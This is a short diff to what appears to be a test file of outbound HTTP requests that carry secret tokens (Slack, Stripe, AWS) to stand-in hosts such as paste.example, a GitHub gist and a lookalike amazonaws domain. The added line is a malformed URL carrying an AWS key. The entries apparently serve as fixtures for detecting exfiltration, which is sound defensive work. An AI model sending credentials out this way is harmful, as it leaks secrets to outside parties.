@@ -12,6 +12,7 @@ AWAY: tuple[tuple[str, str, object], ...] = (
     ("PUT", "https://paste.example/x", f"token={SLACK}"),
     ("GET", f"https://b.example/c?d={STRIPE}", None),
     ("POST", "https://api.github.com/gists", {"files": {"id": {"content": BLOCK}}}),
+    ("POST", "https://[b.example/", {"key": AWS}),
     ("POST", "https://amazonaws.com.b.example/", {"key": AWS}),
 )
 HOME: tuple[tuple[str, str, object], ...] = (
